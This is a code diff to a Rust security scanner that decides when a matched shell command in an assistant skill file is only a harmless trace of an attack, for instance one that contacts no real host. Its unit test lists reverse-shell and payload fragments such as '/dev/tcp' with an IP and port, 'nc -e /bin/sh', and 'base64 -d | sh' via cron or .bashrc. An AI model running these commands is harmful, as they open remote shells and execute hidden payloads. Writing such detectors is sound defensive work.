@@ -5,13 +5,13 @@ use std::sync::LazyLock;
 
 use skillc_core::Span;
 
-use super::{NEAR, Of, is_shell};
+use super::{NEAR, Of, is_real, is_shell};
 use crate::security::context::Place;
 use crate::security::expression::Expression;
 use crate::security::hosts::{HostKind, kind};
 use crate::security::purpose::Purpose;
 use crate::security::signals::{Match, Signal};
-use crate::security::standing;
+use crate::security::standing::{self, Standing};
 
 /// Folders and files that tools can create again, in lower case.
 const REBUILT: [&str; 36] = [
@@ -120,12 +120,36 @@ impl Of<'_, '_> {
         };
         let is_for_assistants = || self.view.purposes.has(Purpose::Prompts);
         let is_sample =
-            || standing::is_shown_sample(doc, at) && (self.view.is_security || declares());
+            || standing::is_shown_sample(doc, at) && (self.view.is_analysis() || declares());
         let is_draft = || place == Place::Code && !standing::is_told(doc, at);
         let is_test = || standing::is_test_message(doc, at);
         is_sample()
             || (self.view.is_security || is_for_assistants()) && is_test()
             || is_for_assistants() && is_draft()
+    }
+
+    /// Returns whether a match is a trace of an attack that a skill about its analysis shows: a sample, or a code span
+    /// that contacts no real host and that the text does not say to run.
+    pub(super) fn is_trace(&self, hit: &Match) -> bool {
+        if self.layer.doc.is_none() || !self.layer.layer.is_file() || !self.view.is_analysis() {
+            return false;
+        }
+        let is_named = || {
+            let address = (self.layer.worst(hit.span))
+                .or_else(|| self.layer.leads_to(self.layer.statement(hit.span)));
+            // The match may begin before the code span.
+            let skipped = self.layer.part(hit.span).find("/dev/tcp").unwrap_or(0);
+            let own = Match {
+                span: Span::new(hit.span.start + skipped, hit.span.end),
+                ..*hit
+            };
+            let command = self.layer.part(own.span);
+            self.layer.place(own.span) == Place::CodeSpan
+                && (has_no_peer(command) || are_own(command))
+                && !address.as_ref().is_some_and(is_real)
+                && self.standing_in_text(&own) != Standing::Order
+        };
+        self.is_exhibit(hit.span) || is_named()
     }
 
     /// Returns whether a command is only data for a program that checks commands, such as an entry in a deny list.
@@ -272,6 +296,20 @@ fn are_own(command: &str) -> bool {
     words.clone().any(is_blank) && !words.any(is_host)
 }
 
+/// Returns whether a command seems to contain no remote address.
+fn has_no_peer(command: &str) -> bool {
+    let mut devices = DEVICES
+        .iter()
+        .filter_map(|device| command.split_once(*device));
+    let is_named = |(_, peer): (&str, &str)| peer.starts_with(char::is_alphanumeric);
+    let is_host = |word: &str| {
+        word.contains('.')
+            && word.contains(char::is_alphanumeric)
+            && !word.starts_with(['.', '-', '/', '`'])
+    };
+    !devices.any(is_named) && !command.split_whitespace().any(is_host)
+}
+
 /// Returns whether a command deletes only files and folders in [`REBUILT`]. `own`: the matched part of the command.
 /// `line`: the match and the rest of its line.
 fn is_rebuilt(own: &str, line: &str) -> bool {
@@ -320,6 +358,22 @@ mod tests {
     fn all_patterns_compile() {
         for expression in [&AUDIENCE, &USER, &SPARES] {
             LazyLock::force(expression);
+        }
+    }
+
+    #[test]
+    fn a_trace_names_no_machine() {
+        for (command, expected) in [
+            ("/dev/tcp/`, `base64 -d | sh` in cron and `.bashrc`", true),
+            ("nc -e /bin/sh", true),
+            ("base64 -d | bash", true),
+            ("/dev/tcp/…", true),
+            ("/dev/tcp/45.77.10.3/4444 0>&1", false),
+            ("/dev/tcp/tables/4444", false),
+            ("nc -e /bin/sh tables.io 4444", false),
+            ("nc -e /bin/sh 45.77.10.3 4444", false),
+        ] {
+            assert_eq!(has_no_peer(command), expected, "{command}");
         }
     }
 
